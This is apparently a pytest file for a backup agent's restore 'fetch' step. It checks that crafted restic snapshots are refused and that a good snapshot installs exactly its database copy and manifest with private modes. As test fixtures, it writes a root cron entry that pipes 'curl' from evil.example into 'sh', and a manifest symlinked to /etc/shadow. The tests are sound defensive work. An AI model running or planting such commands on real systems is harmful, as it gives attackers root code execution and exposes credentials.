"""Restore's download of a snapshot (the agent's `fetch`, cmd_fetch; role flower_offsite_backup).

restore.yml runs `flower_offsite_backup.py fetch ID` as root, the settings and
the repository on stdin, and installs what it answers. A snapshot is the
repository's content, and the repository is written by every host with its
credentials: the agent downloads only what a backup of the role holds, one
database copy and its manifest, regular files, side by side. It lists the
snapshot (`restic ls --json`, read by fetch_plan), refuses anything else
before a byte is downloaded, checks there is room in its staging directory,
dumps the two files (`restic dump`, dump_to) into that private directory,
each no larger than listed, checks the copy against its manifest, and only
then installs it into the backup directory.

What test_retention.py and test_append_only.py build is imported from them:
the agent loaded as the host runs it, agent.json's settings, the cheap
repository (Repository: create_repository's key at CHEAP_SCRYPT, so a restic
process costs milliseconds; snapshots sent into copies of it at once and put
together, as Repository.send does), require(). Three layers:

- fetch_plan on `restic ls --json` listings written here in restic 0.14's
  format (the first line the snapshot, then one node a line), one row per
  case; test_hand_written_listings_are_restics_format compares their fields
  with what real restic lists;
- dump_to on its own: never through or over a file at its destination, and
  a private file whatever the umask;
- real restic: snapshots crafted as a compromised host could send them (a
  link as the manifest, a FIFO beside the database copy, a cron file, a
  manifest that lies about its database copy, one of 2 MiB, ...) and a good
  one, each fetched through main() with the JSON on stdin as restore.yml
  gives it (given_repository's secrets in tmp_path, not /run). A refused one
  leaves the backup directory empty and no staging directory; the good one
  installs exactly its two files. Plus too little room to stage, restic
  sending more or fewer bytes than the listing said, another file under the
  backup's name, and a backup directory that fills up during the install.
"""

from __future__ import annotations

import errno
import hashlib
import io
import json
import os
import shutil
import sqlite3
import stat
import sys
import tempfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath
from types import SimpleNamespace
from typing import Any

import pytest
from test_append_only import require
from test_retention import PASSWORD, Repository, agent, settings

# --- restic ls --json, written by hand -----------------------------------------------

ID = "3a40428928b791a4fe315b9f9cd24b31fd626837876a4e21a9bcd4e18588ede6"
SHORT = ID[:8]
DIR = "/var/backups/flower-superlink"
NAME = "state-20250618T102500.000000Z-scheduled"
DB, MANIFEST = f"{DIR}/{NAME}.db", f"{DIR}/{NAME}.json"
DB_SIZE, MANIFEST_SIZE = 49152, 871
WHEN = "2025-06-18T10:25:00.123456789Z"
# restic's mode is Go's os.FileMode (type bits high, permissions low) and its
# permissions Go's FileMode.String(); one of each type, as restic 0.14 lists it.
MODES = {
    "dir": (2147484096, "drwx------"),
    "file": (384, "-rw-------"),
    "symlink": (134218239, "Lrwxrwxrwx"),
    "fifo": (33554816, "prw-------"),
    "dev": (67109248, "Drw-------"),
    "chardev": (69206400, "Dcrw-------"),
    "socket": (16777600, "Srw-------"),
    "irregular": (524672, "?rw-------"),
}
# Go's os.ModeType: the bits that tell the type (dir, symlink, named pipe, socket, device, char device, irregular).
GO_MODE_TYPE = 1 << 31 | 1 << 27 | 1 << 25 | 1 << 24 | 1 << 26 | 1 << 21 | 1 << 19
MISSING = object()


def node(path: str, kind: str | None = "file", size: Any = 1) -> dict[str, Any]:
    """One line of `restic ls --json` (restic 0.14, cmd/restic/cmd_ls.go: lsNode): a size for files only."""
    mode, permissions = MODES.get(kind or "file", MODES["file"])
    entry: dict[str, Any] = {"name": PurePosixPath(path).name, "type": kind, "path": path, "uid": 0, "gid": 0}
    if kind is None:
        del entry["type"]
    if kind == "file" and size is not MISSING:
        entry["size"] = size
    return entry | {
        "mode": mode,
        "permissions": permissions,
        "mtime": WHEN,
        "atime": WHEN,
        "ctime": WHEN,
        "struct_type": "node",
    }


SNAPSHOT_LINE = {
    "time": WHEN,
    "tree": "739c416f5274cf40fd0bf24fe886d64d463adb9ba3f83fa3b1eaf46e66beb66d",
    "paths": [DB, MANIFEST],
    "hostname": "sl1",
    "username": "root",
    "tags": ["flower-superlink", "scheduled", "superlink:flower-superlink"],
    "id": ID,
    "short_id": SHORT,
    "struct_type": "snapshot",
}


def listing(*nodes: dict[str, Any] | str) -> str:
    """restic ls --json's output: the snapshot, then each node (a string: that line as it is)."""
    lines = [n if isinstance(n, str) else json.dumps(n, separators=(",", ":"), ensure_ascii=False) for n in nodes]
    return "".join(line + "\n" for line in [json.dumps(SNAPSHOT_LINE, separators=(",", ":")), *lines])


def dirs(*paths: str) -> list[dict[str, Any]]:
    """The directory nodes above each of PATHS, as restic lists a snapshot's tree (each once, parents first)."""
    above = {str(parent) for path in paths for parent in PurePosixPath(path).parents if str(parent) != "/"}
    return [node(d, "dir") for d in sorted(above, key=lambda d: (d.count("/"), d))]


def backup(db: str = DB, manifest: str | None = None, *more: dict[str, Any], db_size: Any = DB_SIZE) -> str:
    """A listing of a database copy DB and its manifest (beside it unless named), and MORE nodes."""
    manifest = manifest or str(PurePosixPath(db).with_suffix(".json"))
    nodes = [node(db, size=db_size), node(manifest, size=MANIFEST_SIZE), *more]
    return listing(*dirs(*(n["path"] for n in nodes if isinstance(n.get("path"), str))), *nodes)


def named(name: str) -> str:
    """A backup whose database copy is called NAME, its manifest beside it."""
    return backup(f"{DIR}/{name}")


def plan(db: str = DB, manifest: str = MANIFEST, db_size: int = DB_SIZE, manifest_size: int = MANIFEST_SIZE) -> tuple:
    return {"path": db, "size": db_size}, {"path": manifest, "size": manifest_size}


OLD_DIR = "/srv/flower/old-backups"
LONGEST = "s" * 201 + ".db"  # BACKUP_NAME_RE: 1 + 200 characters, then .db
NEVER = "holds what a backup never does: "
BESIDES = "holds files besides its backup: "
DB_ONLY = [node(d, "dir") for d in ("/var", "/var/backups", DIR)] + [node(DB, size=DB_SIZE)]
PLAN_ROWS = [
    # id, restic ls --json's output, the plan (a tuple) or the refusal (words it holds, after "snapshot 3a404289")
    ("good", backup(), plan()),
    ("manifest-listed-first", listing(*DB_ONLY[:3], node(MANIFEST, size=MANIFEST_SIZE), DB_ONLY[3]), plan()),
    # Another host's snapshot, from its own backup directory: installed into this one's by name.
    (
        "another-backup-directory",
        backup(f"{OLD_DIR}/{NAME}.db"),
        plan(f"{OLD_DIR}/{NAME}.db", f"{OLD_DIR}/{NAME}.json"),
    ),
    ("longest-name", named(LONGEST), plan(f"{DIR}/{LONGEST}", f"{DIR}/{LONGEST[:-3]}.json")),
    ("empty-database", backup(db_size=0), plan(db_size=0)),
    (
        "manifest-of-1-mib",
        listing(*DB_ONLY, node(MANIFEST, size=agent.MANIFEST_MAX_BYTES)),
        plan(manifest_size=agent.MANIFEST_MAX_BYTES),
    ),
    # Anything but a regular file or a directory, wherever it is.
    ("symlinked-manifest", listing(*DB_ONLY, node(MANIFEST, "symlink")), f"{NEVER}{MANIFEST} (symlink)"),
    ("symlinked-db", listing(*DB_ONLY[:3], node(DB, "symlink"), node(MANIFEST)), f"{NEVER}{DB} (symlink)"),
    ("symlink-beside", backup(DB, None, node(f"{DIR}/latest", "symlink")), f"{NEVER}{DIR}/latest (symlink)"),
    ("fifo", backup(DB, None, node(f"{DB}-wal", "fifo")), f"{NEVER}{DB}-wal (fifo)"),
    ("fifo-as-manifest", listing(*DB_ONLY, node(MANIFEST, "fifo")), f"{NEVER}{MANIFEST} (fifo)"),
    ("char-device", backup(DB, None, node(f"{DIR}/null", "chardev")), f"{NEVER}{DIR}/null (chardev)"),
    ("block-device", backup(DB, None, node("/dev/sda", "dev")), f"{NEVER}/dev/sda (dev)"),
    ("socket", backup(DB, None, node(f"{DIR}/agent.sock", "socket")), f"{NEVER}{DIR}/agent.sock (socket)"),
    ("irregular", backup(DB, None, node(f"{DIR}/odd", "irregular")), f"{NEVER}{DIR}/odd (irregular)"),
    ("no-type", backup(DB, None, node(f"{DIR}/what", None)), f"{NEVER}{DIR}/what (None)"),
    (
        "several-specials",
        backup(DB, None, *[node(f"/dev/tty{i}", "chardev") for i in range(7)]),
        f"{NEVER}/dev/tty0 (chardev), /dev/tty1 (chardev), /dev/tty2 (chardev), /dev/tty3 (chardev), "
        "/dev/tty4 (chardev)",
    ),
    # Regular files besides the backup.
    ("extra-file", backup(DB, None, node("/etc/cron.d/evil")), f"{BESIDES}/etc/cron.d/evil"),
    ("journal-beside-the-db", backup(DB, None, node(f"{DB}-journal")), f"{BESIDES}{DB}-journal"),
    ("upper-case-db", backup(DB, None, node(f"{DIR}/STATE.DB")), f"{BESIDES}{DIR}/STATE.DB"),
    ("two-dbs", backup(DB, None, node(f"{DIR}/state-other.db")), "holds 2 database copies, not one"),
    ("no-db", listing(*DB_ONLY[:3], node(MANIFEST)), "holds 0 database copies, not one"),
    ("db-is-a-directory", listing(*DB_ONLY[:3], node(DB, "dir"), node(MANIFEST)), "holds 0 database copies"),
    ("manifest-missing", listing(*DB_ONLY), f"has no manifest beside {NAME}.db"),
    ("manifest-is-a-directory", listing(*DB_ONLY, node(MANIFEST, "dir")), f"has no manifest beside {NAME}.db"),
    (
        "manifest-in-another-directory",
        backup(DB, f"/var/backups/other/{NAME}.json"),
        f"{BESIDES}/var/backups/other/{NAME}.json",
    ),
    ("manifest-of-another-name", backup(DB, f"{DIR}/state.json"), f"{BESIDES}{DIR}/state.json"),
    # The database copy's name: what it is installed as.
    ("name-dot-dot", named("..db"), '"..db" is not a backup\'s name'),
    ("name-only-the-suffix", named(".db"), '".db" is not a backup\'s name'),
    ("name-hidden", named(".hidden.db"), '".hidden.db" is not a backup\'s name'),
    ("name-with-a-space", named("state 1.db"), '"state 1.db" is not a backup\'s name'),
    ("name-with-a-newline", named("state\n.db"), '"state\\n.db" is not a backup\'s name'),
    ("name-with-a-tab", named("state\t.db"), '"state\\t.db" is not a backup\'s name'),
    ("name-starting-with-a-dash", named("-rf.db"), '"-rf.db" is not a backup\'s name'),
    ("name-non-ascii", named("st\u00e5te.db"), '"st\\u00e5te.db" is not a backup\'s name'),
    ("name-of-205-characters", named("s" + LONGEST), f'"s{LONGEST}" is not a backup\'s name'),
    ("name-of-300-characters", named("s" * 297 + ".db"), f'"{"s" * 297}.db" is not a backup\'s name'),
    # A backup's name, then more: the whole name is checked, not its start.
    ("name-goes-on-after-a-newline", named(f"{NAME}.db\n.db"), f'"{NAME}.db\\n.db" is not a backup\'s name'),
    ("name-goes-on-after-a-space", named(f"{NAME}.db .db"), f'"{NAME}.db .db" is not a backup\'s name'),
    # Sizes.
    ("db-size-missing", backup(db_size=MISSING), f"{DB} has no size"),
    ("manifest-size-missing", listing(*DB_ONLY, node(MANIFEST, size=MISSING)), f"{MANIFEST} has no size"),
    ("negative-size", backup(db_size=-1), f"{DB} has no size"),
    ("size-a-string", backup(db_size=str(DB_SIZE)), f"{DB} has no size"),
    ("size-null", backup(db_size=None), f"{DB} has no size"),
    ("size-a-float", backup(db_size=1.5), f"{DB} has no size"),
    ("size-true", backup(db_size=True), f"{DB} has no size"),
    (
        "oversized-manifest",
        listing(*DB_ONLY, node(MANIFEST, size=agent.MANIFEST_MAX_BYTES + 1)),
        "its manifest is 1048577 bytes, not a manifest",
    ),
    # What restic wrote is not a listing.
    (
        "a-line-not-json",
        listing(*DB_ONLY, "Warning: at least one source file could not be read", node(MANIFEST)),
        "restic ls gave a line that is not JSON",
    ),
    ("a-truncated-line", listing(*DB_ONLY, json.dumps(node(MANIFEST))[:40]), "restic ls gave a line that is not JSON"),
    ("empty-listing", "", "holds 0 database copies, not one"),
    ("only-the-snapshot", listing(), "holds 0 database copies, not one"),
    # Go's JSON leaves U+0085 (NEL) as it is; str.splitlines() splits there.
    ("extra-file-named-with-nel", backup(DB, None, node(f"{DIR}/a\x85b")), f"{BESIDES}{DIR}/a\x85b"),
    (
        "node-without-a-path",
        backup(DB, None, {"name": "x", "type": "symlink", "struct_type": "node"}),
        'restic ls gave an entry without a path: {"name":"x","type":"symlink"',
    ),
    (
        "path-not-a-string",
        backup(DB, None, {**node("/x", "fifo"), "path": 7}),
        "restic ls gave an entry without a path",
    ),
    ("a-line-not-an-object", listing(*DB_ONLY, "[]", node(MANIFEST)), "restic ls gave an entry without a path: []"),
]


# id: (the defect, how its row fails while it is there)
def params(rows: list[tuple], with_id: bool = False) -> list[Any]:
    """pytest.param of each row (its first field the id, passed too WITH_ID)."""
    return [
        pytest.param(
            *row[0 if with_id else 1 :],
            id=row[0],
        )
        for row in rows
    ]


@pytest.mark.parametrize(("listed", "expected"), params(PLAN_ROWS))
def test_fetch_plan_takes_one_database_copy_and_its_manifest(listed: str, expected: tuple | str) -> None:
    if isinstance(expected, tuple):
        assert agent.fetch_plan(listed, ID) == expected
    else:
        with pytest.raises(agent.Refused) as refused:
            agent.fetch_plan(listed, ID)
        said = str(refused.value)
        assert said.startswith(f"snapshot {SHORT}"), said
        assert expected in said, said


# --- dump_to: never through or over a file at its destination --------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The umask of a root shell (main() sets 0077 for the agent: its own modes must not rely on it)."""
    umask = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(umask)


def no_restic(*args: Any, **kwargs: Any) -> None:
    raise AssertionError(f"restic must not run: {args}")


@pytest.mark.parametrize("planted", ["symlink", "dangling-symlink", "file"])
def test_dump_to_never_writes_through_or_over_its_destination(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    """O_EXCL|O_NOFOLLOW: a link or file at the destination is refused before restic runs."""
    victim = tmp_path / "victim"
    victim.write_text("root's file\n")
    dest = tmp_path / "staging" / f"{NAME}.db"
    dest.parent.mkdir(mode=0o700)
    if planted == "file":
        dest.write_text("there before\n")
    else:
        dest.symlink_to(victim if planted == "symlink" else tmp_path / "nowhere")
    monkeypatch.setattr(agent.subprocess, "Popen", no_restic)
    config = {"repository": "/nowhere", "environment": {}, "cache_dir": str(tmp_path), "password_file": "/nowhere"}
    with pytest.raises(OSError, match="exists") as raised:
        agent.dump_to(config, ID, {"path": DB, "size": 3}, dest)
    assert raised.value.errno == errno.EEXIST
    assert victim.read_text() == "root's file\n"
    assert not (tmp_path / "nowhere").exists()
    if planted == "file":
        assert dest.read_text() == "there before\n"


def test_dump_to_writes_a_private_file_whatever_the_umask(crafted: Repo, tmp_path: Path, umask_022: None) -> None:
    good = crafted.snapshots["good"]
    dest = tmp_path / f"{NAME}.db"
    agent.dump_to(crafted.repo.access, good.id, {"path": str(good.db), "size": len(crafted.good_db)}, dest)
    st = dest.lstat()
    assert stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o600
    assert dest.read_bytes() == crafted.good_db


# --- real restic: crafted snapshots, fetched as restore.yml fetches them ------------------

OTHER_RUNS, CURRENT_RUNS = 2, 3


def superlink_database(path: Path, runs: int) -> Path:
    """A SuperLink database of RUNS runs (Flower's run table, as far as the agent reads it)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    con = sqlite3.connect(path)
    try:
        with con:
            con.execute("CREATE TABLE run (run_id INTEGER PRIMARY KEY, status TEXT)")
            con.executemany("INSERT INTO run (status) VALUES (?)", [("finished",)] * runs)
    finally:
        con.close()
    return path


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@dataclass
class Crafted:
    """One crafted snapshot: its ID, its backup directory, database copy and manifest (the paths
    restic recorded), and the bytes of each regular file sent, by path."""

    id: str
    folder: Path
    db: Path
    manifest: Path
    sent: dict[str, bytes] = field(default_factory=dict)


@dataclass
class Repo:
    repo: Repository
    snapshots: dict[str, Crafted]
    good_db: bytes
    good_manifest: bytes


def craft(good_db: bytes, good_manifest: bytes) -> dict[str, Callable[[Path, Path], list[Path]]]:
    """How each case writes its snapshot, given the paths of its database copy and of the manifest
    beside it: the paths to send. The good backup's files (GOOD_DB, GOOD_MANIFEST) but for what the
    case changes; the database copy always has a backup's name."""
    manifest = json.loads(good_manifest)

    def files(db_bytes: bytes, manifest_bytes: bytes) -> Callable[[Path, Path], list[Path]]:
        def write(db: Path, json_path: Path) -> list[Path]:
            db.write_bytes(db_bytes)
            json_path.write_bytes(manifest_bytes)
            return [db, json_path]

        return write

    def symlinked_manifest(db: Path, json_path: Path) -> list[Path]:
        db.write_bytes(good_db)
        json_path.symlink_to("/etc/shadow")
        return [db, json_path]

    def fifo(db: Path, json_path: Path) -> list[Path]:
        sent = files(good_db, good_manifest)(db, json_path)
        wal = db.with_name(db.name + "-wal")
        os.mkfifo(wal)
        return [*sent, wal]

    def extra_file(db: Path, json_path: Path) -> list[Path]:
        sent = files(good_db, good_manifest)(db, json_path)
        evil = db.parent.parent / "etc" / "cron.d" / "evil"
        evil.parent.mkdir(parents=True)
        evil.write_text("* * * * * root curl -s https://evil.example | sh\n")
        return [*sent, evil]

    garbage = os.urandom(8192)
    encode = lambda data: json.dumps(data, indent=2).encode()  # noqa: E731
    return {
        "good": files(good_db, good_manifest),
        "symlinked-manifest": symlinked_manifest,
        "fifo-beside-the-db": fifo,
        "extra-file": extra_file,
        "manifest-lies": files(good_db, encode({**manifest, "sha256": sha256(b"another file")})),
        "manifest-of-2-mib": files(good_db, encode({**manifest, "padding": "x" * (2 << 20)})),
        "manifest-not-an-object": files(good_db, encode([manifest])),
        "runs-differ": files(good_db, encode({**manifest, "runs": 5})),
        "not-a-database": files(garbage, encode({**manifest, "sha256": sha256(garbage), "runs": -1})),
    }


@pytest.fixture(scope="module")
def crafted(tmp_path_factory: pytest.TempPathFactory) -> Repo:
    """A repository with one snapshot per case of craft(), each `restic backup` of its paths from a
    folder of its own (host sl1, the role's tag: fetch reads neither)."""
    require("restic", "restic")
    base = tmp_path_factory.mktemp("fetch")
    repo = Repository(base)
    repo.init()
    # The good backup as the agent takes it (flower_superlink_state.backup: the copy and its manifest).
    source = superlink_database(base / "superlink" / "state.db", OTHER_RUNS)
    taken = base / "taken" / f"{NAME}.db"
    taken.parent.mkdir()
    agent.backup(source, taken, {"host": "sl1", "reason": "scheduled", "flwr_version": "1.19.0"})
    good_db, good_manifest = taken.read_bytes(), taken.with_suffix(".json").read_bytes()
    snapshots, sent = {}, {}
    for case, write in craft(good_db, good_manifest).items():
        folder = base / case / "backups"
        folder.mkdir(parents=True)
        db = folder / f"{NAME}.db"
        paths = write(db, db.with_suffix(".json"))
        snapshots[case] = Crafted("", folder, db, db.with_suffix(".json"))
        snapshots[case].sent = {str(p): p.read_bytes() for p in paths if p.is_file() and not p.is_symlink()}
        sent[case] = [str(p) for p in paths]

    def send(case: str) -> Path:
        """One snapshot, into a copy of the empty repository (as Repository.send: restic 0.14 and
        several processes' locks in one repository do not mix)."""
        copy = base / f"sender-{case}"
        shutil.copytree(base / "repo", copy)
        argv = ["backup", "--no-cache", "--json", "--host", "sl1", "--tag", agent.TAG, *sent[case]]
        repo.restic({**repo.access, "repository": str(copy)}, *argv)
        return copy

    with ThreadPoolExecutor(len(sent)) as senders:
        copies = list(senders.map(send, sent))
    for copy in copies:
        for kind in ("data", "index", "snapshots"):
            shutil.copytree(copy / kind, base / "repo" / kind, dirs_exist_ok=True)
    by_paths = {tuple(sorted(s["paths"])): s["id"] for s in repo.snapshots()}
    for case, snapshot in snapshots.items():
        snapshot.id = by_paths[tuple(sorted(sent[case]))]  # the whole ID, as restore.yml passes it
    return Repo(repo, snapshots, good_db, good_manifest)


@dataclass
class Fetched:
    code: int
    answer: dict[str, Any]
    journal: str
    commands: list[tuple[str, ...]]  # every restic command the agent ran, in order
    downloads: list[dict[str, Any]]  # each dump_to: what, where, and the modes it left
    host: Path

    @property
    def backups(self) -> list[str]:
        return sorted(p.name for p in (self.host / "backups").iterdir())

    def left_behind(self) -> list[str]:
        """Anything in the cache directory (the staging directory) or under /run (the secrets)."""
        return sorted(str(p.relative_to(self.host)) for d in ("cache", "run") for p in (self.host / d).iterdir())


def fetch(
    crafted: Repo, case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Fetched:
    """`flower_offsite_backup.py fetch ID` as restore.yml runs it (main(), the JSON on stdin), on a
    host in TMP_PATH: an empty backup directory, the role's cache directory, a current database of
    CURRENT_RUNS runs. given_repository's secrets go to TMP_PATH/run rather than /run."""
    for folder in ("backups", "cache", "run"):
        (tmp_path / folder).mkdir(mode=0o700, exist_ok=True)
    database = tmp_path / "state" / "state.db"
    if not database.exists():
        superlink_database(database, CURRENT_RUNS)
    given = {
        **settings("sl1", "flower-superlink"),
        "database": str(database),
        "backup_dir": str(tmp_path / "backups"),
        "cache_dir": str(tmp_path / "cache"),
        "repository": crafted.repo.access["repository"],
        "password": PASSWORD,
        "environment": {"TZ": "UTC"},
        "ssh_private_key": "",
        "known_hosts": [],
    }
    commands: list[tuple[str, ...]] = []
    downloads: list[dict[str, Any]] = []
    restic_command, dump_to = agent.restic_command, agent.dump_to

    def recording_command(config: dict[str, Any], *args: str) -> tuple[dict, list[str]]:
        commands.append(args)
        return restic_command(config, *args)

    def recording_dump(config: dict[str, Any], snapshot: str, node: dict[str, Any], dest: Path) -> None:
        seen: dict[str, Any] = {"path": node["path"], "size": node["size"], "dest": dest, "existed": dest.exists()}
        downloads.append(seen)
        seen["staging_mode"] = stat.S_IMODE(dest.parent.stat().st_mode)
        dump_to(config, snapshot, node, dest)
        st = dest.lstat()
        seen["mode"], seen["regular"] = stat.S_IMODE(st.st_mode), stat.S_ISREG(st.st_mode)

    def temporary_directory(**kwargs: Any) -> tempfile.TemporaryDirectory:
        assert kwargs["dir"] == "/run"
        return tempfile.TemporaryDirectory(**{**kwargs, "dir": str(tmp_path / "run")})

    monkeypatch.setattr(agent, "restic_command", recording_command)
    monkeypatch.setattr(agent, "dump_to", recording_dump)
    monkeypatch.setattr(agent, "tempfile", SimpleNamespace(TemporaryDirectory=temporary_directory))
    monkeypatch.setattr(sys, "stdin", io.StringIO(json.dumps(given)))
    umask = os.umask(0o022)
    try:  # main() sets the agent's umask (0077): not for the tests that run after this one
        code = agent.main(["flower_offsite_backup.py", "fetch", crafted.snapshots[case].id])
    finally:
        os.umask(umask)
    out, err = capsys.readouterr()
    assert PASSWORD not in out + err
    assert len(out.splitlines()) == 1, out
    return Fetched(code, json.loads(out), err, commands, downloads, tmp_path)


def assert_refused(fetched: Fetched, snapshot: Crafted, words: str) -> None:
    """Refused in WORDS, naming the snapshot; nothing in the backup directory, no staging left."""
    said = fetched.answer.get("msg", "")
    assert fetched.code == 1 and fetched.answer == {"failed": True, "msg": said}, fetched.answer
    assert said.startswith(f"snapshot {snapshot.id[:8]}"), said
    assert words in said, said
    assert f"flower-offsite-backup fetch: {said}" in fetched.journal
    assert fetched.backups == []
    assert fetched.left_behind() == []


def listed(snapshot: Crafted) -> tuple[str, ...]:
    return ("ls", "--json", snapshot.id)


def dumped(snapshot: Crafted, *paths: Path) -> list[tuple[str, ...]]:
    return [("dump", snapshot.id, str(p)) for p in paths]


REFUSED_ROWS = [
    # id (the crafted case), the refusal's words ({folder}: the snapshot's backup directory), what was downloaded
    ("symlinked-manifest", NEVER + "{folder}/" + NAME + ".json (symlink)", ()),
    ("fifo-beside-the-db", NEVER + "{folder}/" + NAME + ".db-wal (fifo)", ()),
    ("extra-file", BESIDES + "{parent}/etc/cron.d/evil", ()),
    ("manifest-of-2-mib", "its manifest is {manifest_size} bytes, not a manifest", ()),
    ("manifest-lies", "is damaged: SHA-256 {db_sha:.16}... is not the manifest's {fake_sha:.16}...", ("json", "db")),
    ("manifest-not-an-object", f"has no readable manifest beside {NAME}.db: not a JSON object", ("json", "db")),
    ("runs-differ", f"is damaged: it holds {OTHER_RUNS} runs, its manifest says 5", ("json", "db")),
    ("not-a-database", "is not a SQLite database", ("json", "db")),
]


@pytest.mark.parametrize(("case", "words", "downloaded"), params(REFUSED_ROWS, with_id=True))
def test_a_crafted_snapshot_is_refused_and_nothing_installed(
    crafted: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    case: str,
    words: str,
    downloaded: tuple[str, ...],
) -> None:
    """Refused before a byte is downloaded when the listing is not a backup's; after the download,
    before anything is installed, when the copy is not what its manifest says."""
    snapshot = crafted.snapshots[case]
    fetched = fetch(crafted, case, tmp_path, monkeypatch, capsys)
    facts = {
        "folder": snapshot.folder,
        "parent": snapshot.folder.parent,
        "manifest_size": snapshot.manifest.lstat().st_size,
        "db_sha": sha256(crafted.good_db),
        "fake_sha": sha256(b"another file"),
    }
    assert_refused(fetched, snapshot, words.format(**facts))
    paths = {"json": snapshot.manifest, "db": snapshot.db}
    assert fetched.commands == [listed(snapshot), *dumped(snapshot, *(paths[d] for d in downloaded))]
    assert not any(args[0] == "restore" for args in fetched.commands)


def test_the_good_snapshot_installs_exactly_its_two_files(
    crafted: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The backup as it was taken: both files, 0600, the same bytes; the answer restore.yml reads;
    each downloaded into the private staging directory, then gone. A second fetch finds it there."""
    good = crafted.snapshots["good"]
    leftover = tmp_path / "cache" / "restore" / "leftover"
    leftover.parent.mkdir(parents=True)  # an earlier fetch that died: its staging is replaced
    leftover.write_text("from before\n")
    fetched = fetch(crafted, "good", tmp_path, monkeypatch, capsys)
    assert fetched.code == 0, fetched.answer
    backups = tmp_path / "backups"
    assert fetched.answer == {
        "backup": str(backups / f"{NAME}.db"),
        "manifest": json.loads(crafted.good_manifest),
        "runs": OTHER_RUNS,
        "sha256": sha256(crafted.good_db),
        "snapshot": good.id,
        "current_runs": CURRENT_RUNS,
        "installed": True,
    }
    assert fetched.backups == [f"{NAME}.db", f"{NAME}.json"]
    for name, content in ((f"{NAME}.db", crafted.good_db), (f"{NAME}.json", crafted.good_manifest)):
        st = (backups / name).lstat()
        assert stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o600, name
        assert sha256((backups / name).read_bytes()) == sha256(content), name
    assert fetched.commands == [listed(good), *dumped(good, good.manifest, good.db)]
    staging = tmp_path / "cache" / "restore"
    assert fetched.downloads == [
        {
            "path": str(p),
            "size": len(good.sent[str(p)]),
            "dest": staging / p.name,
            "existed": False,
            "staging_mode": 0o700,
            "mode": 0o600,
            "regular": True,
        }
        for p in (good.manifest, good.db)
    ]
    assert fetched.left_behind() == []
    # Fetched again (restore.yml run twice): the same backup is found there, nothing replaced.
    installed = {p.name: p.stat().st_mtime_ns for p in backups.iterdir()}
    monkeypatch.undo()
    again = fetch(crafted, "good", tmp_path, monkeypatch, capsys)
    assert again.code == 0 and again.answer == {**fetched.answer, "installed": False}
    assert {p.name: p.stat().st_mtime_ns for p in backups.iterdir()} == installed
    assert again.left_behind() == []


def test_the_modes_are_the_agents_not_the_umasks(
    crafted: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, umask_022: None
) -> None:
    """cmd_fetch called under a root shell's umask (022), not main()'s 077: the staging directory
    is still 0700, each download and each installed file 0600."""
    good = crafted.snapshots["good"]
    staged: list[tuple[int, int]] = []
    dump_to = agent.dump_to

    def recording_dump(config: dict[str, Any], snapshot: str, node: dict[str, Any], dest: Path) -> None:
        dump_to(config, snapshot, node, dest)
        staged.append((stat.S_IMODE(dest.parent.stat().st_mode), stat.S_IMODE(dest.stat().st_mode)))

    monkeypatch.setattr(agent, "dump_to", recording_dump)
    (tmp_path / "staging").mkdir()
    config = {
        **crafted.repo.config(settings("sl1", "flower-superlink"), tmp_path / "backups"),
        "staging_dir": str(tmp_path / "staging"),
        "database": str(tmp_path / "no-database.db"),
    }
    answer = agent.cmd_fetch(config, good.id)
    assert answer["installed"] is True and answer["current_runs"] == -1
    assert staged == [(0o700, 0o600), (0o700, 0o600)]
    assert {p.name: stat.S_IMODE(p.lstat().st_mode) for p in (tmp_path / "backups").iterdir()} == {
        f"{NAME}.db": 0o600,
        f"{NAME}.json": 0o600,
    }
    assert stat.S_IMODE((tmp_path / "backups").stat().st_mode) == 0o700
    assert list((tmp_path / "staging").iterdir()) == []


THEIRS_ROWS = [
    # id, what the backup directory holds under the snapshot's database copy's name
    ("a-database", None),
    ("not-a-database", b"not SQLite\n" * 100),
]


@pytest.mark.parametrize("content", params(THEIRS_ROWS))
def test_another_backup_under_its_name_is_never_replaced(
    crafted: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    content: bytes | None,
) -> None:
    """The backup directory already holds another file under the snapshot's database copy's name:
    refused after the checks, that file as it was and nothing beside it."""
    theirs = tmp_path / "backups" / f"{NAME}.db"
    if content is None:
        superlink_database(theirs, 1)
    else:
        theirs.parent.mkdir(mode=0o700)
        theirs.write_bytes(content)
    before = theirs.read_bytes()
    fetched = fetch(crafted, "good", tmp_path, monkeypatch, capsys)
    said = fetched.answer.get("msg", "")
    assert fetched.code == 1 and fetched.answer == {"failed": True, "msg": said}, fetched.answer
    good = crafted.snapshots["good"]
    assert said == f"{theirs} exists and is another backup than snapshot {good.id[:8]}'s; move it away"
    assert fetched.backups == [f"{NAME}.db"] and theirs.read_bytes() == before
    assert fetched.left_behind() == []


@pytest.mark.parametrize("fails", params([("install-fails-halfway", 2)]))
def test_an_install_that_fails_leaves_nothing_in_the_backup_directory(
    crafted: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], fails: int
) -> None:
    """The backup directory's filesystem is full: the FAILS-th copy into it (the database copy,
    after its manifest) writes part of the file, then fails."""
    copyfileobj = agent.shutil.copyfileobj
    copies: list[int] = []

    def full(source: Any, dest: Any, *args: Any) -> None:
        copies.append(1)
        copyfileobj(source, dest, *args)
        if len(copies) == fails:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(agent.shutil, "copyfileobj", full)
    fetched = fetch(crafted, "good", tmp_path, monkeypatch, capsys)
    assert fetched.code == 1 and "No space left on device" in fetched.answer["msg"], fetched.answer
    assert len(copies) == fails
    assert fetched.left_behind() == []
    assert fetched.backups == []


